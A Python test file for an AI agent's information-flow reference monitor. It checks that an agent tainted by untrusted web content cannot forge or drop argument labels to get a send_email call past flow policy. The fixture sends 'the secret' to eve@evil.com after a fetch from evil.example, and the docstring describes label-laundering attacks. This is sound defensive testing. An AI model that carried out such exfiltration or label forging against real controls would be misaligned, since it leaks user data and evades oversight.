"""Labels only rise: what a caller passes with a tool call is joined with the monitor's context label.

Attacks: an agent that has read untrusted output passes `labels={}`, trusted labels for every argument,
a trusted control label, labels for arguments the call does not have, or malformed labels, to make a
flow rule pass. Only an agent holding `ifc.declassify` (the plan interpreter) may label finer.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from llmos.security.audit import AuditLog
from llmos.security.capabilities import Capabilities, default_capabilities
from llmos.security.ifc import CONTROL, USER, FlowPolicies, Label
from llmos.security.monitor import DECLASSIFY, ReferenceMonitor


@dataclass
class Proc:
    pid: int
    name: str
    workdir: Path
    capabilities: Any = None


SEND = {"to": "eve@evil.com", "body": "the secret"}


def _tainted(tmp_path: Path, *extra: dict) -> tuple[ReferenceMonitor, Proc]:
    """A monitor whose agent has read a web page (untrusted) and may send mail to anyone."""
    flows = FlowPolicies().add("send_email", "to", trusted_control=True)
    mon = ReferenceMonitor(flows=flows, audit=AuditLog(tmp_path / "audit.db"))
    mon.untrusted_output("fetch")
    caps = Capabilities.of([{"tool": "fetch"}, {"tool": "send_email"}, *extra])
    p = Proc(3, "agent", tmp_path, caps)
    d = mon.check(p, "fetch", {"url": "https://evil.example"})
    mon.record(p, "fetch", {"url": "https://evil.example"}, d, "ok")
    assert mon.context_label(p).untrusted_sources() == ["tool:fetch"]
    return mon, p


@pytest.mark.parametrize("labels", [
    {},
    {"to": USER},
    {"to": USER, "body": USER, CONTROL: USER},
    {"to": [], CONTROL: []},
    {"to": {"sources": ["user"], "trusted": True, "untrusted": []}},
    {"unrelated": USER},
    {"to": ["user"], CONTROL: ["user", "plan"]},
])
def test_passed_labels_cannot_launder_the_context(tmp_path: Path, labels):
    mon, p = _tainted(tmp_path)
    d = mon.check(p, "send_email", SEND, labels)
    assert not d.allowed
    assert d.reason.startswith("denied by flow policy: ") and "untrusted data from tool:fetch" in d.reason


def test_passed_labels_still_raise(tmp_path: Path):
    """An agent with a clean context may mark its own arguments untrusted (labels only rise)."""
    mon = ReferenceMonitor(flows=FlowPolicies().add("send_email", "to"))
    p = Proc(1, "a", tmp_path, Capabilities.of([{"tool": "send_email"}]))
    assert mon.check(p, "send_email", SEND, {}).allowed
    d = mon.check(p, "send_email", SEND, {"to": ["!tool:web"]})
    assert d.reason == "denied by flow policy: argument 'to' depends on untrusted data from tool:web"


def test_declassify_grant_lets_the_plan_interpreter_label_finer(tmp_path: Path):
    mon, p = _tainted(tmp_path, {"tool": DECLASSIFY})
    assert mon.may_declassify(p)
    assert mon.check(p, "send_email", SEND, {"to": USER, CONTROL: USER}).allowed
    # its labels are used as given: an untrusted label it passes still denies
    assert not mon.check(p, "send_email", SEND, {"to": ["!tool:fetch"], CONTROL: USER}).allowed
    # without labels it is judged by its context like anyone else
    assert not mon.check(p, "send_email", SEND).allowed


def test_declassify_is_not_in_the_default_grants_and_cannot_be_attenuated_into(tmp_path: Path):
    assert not default_capabilities(tmp_path).check(DECLASSIFY, {}, tmp_path, consume=False).allowed
    mon, p = _tainted(tmp_path)
    assert not mon.may_declassify(p)
    with pytest.raises(PermissionError, match="cannot grant 'ifc.declassify'"):
        mon.attenuate(p, [{"tool": DECLASSIFY}])


def test_declassify_is_never_inherited_only_given_by_name(tmp_path: Path):
    """A child of the plan interpreter that inherits all its grants may use its tools, but its labels
    are joined with its context like anyone's; only a child that names the grant gets it."""
    mon, planner = _tainted(tmp_path, {"tool": DECLASSIFY})
    inherited = Proc(4, "child", tmp_path, mon.attenuate(planner, None))
    assert not mon.may_declassify(inherited)
    assert inherited.capabilities.check("send_email", SEND, tmp_path, consume=False).allowed
    mon.flow(planner, inherited)  # it starts with what the planner's context has read
    assert not mon.check(inherited, "send_email", SEND, {"to": USER, CONTROL: USER}).allowed
    named = Proc(5, "named", tmp_path, mon.attenuate(planner, [{"tool": DECLASSIFY}]))
    assert mon.may_declassify(named)


@pytest.mark.parametrize("labels, message", [
    ({"to": 3}, "cannot read a label from int"),
    ("user", "labels must map argument names to labels, got str"),
    ([["to", "user"]], "labels must map argument names to labels, got list"),
])
def test_malformed_labels_are_a_denial_not_a_crash(tmp_path: Path, labels, message):
    mon, p = _tainted(tmp_path)
    d = mon.check(p, "send_email", SEND, labels)
    assert not d.allowed and message in d.reason
    row = mon.audit.tail(1)[0]
    assert row["decision"] == "deny" and message in row["reason"]


def test_declassifier_labels_join_nothing_else(tmp_path: Path):
    """The context join happens per argument; a declassifier's missing label is trusted (its own say)."""
    mon, p = _tainted(tmp_path, {"tool": "ifc.*"})
    assert mon.may_declassify(p)
    assert mon.check(p, "send_email", SEND, {CONTROL: Label()}).allowed
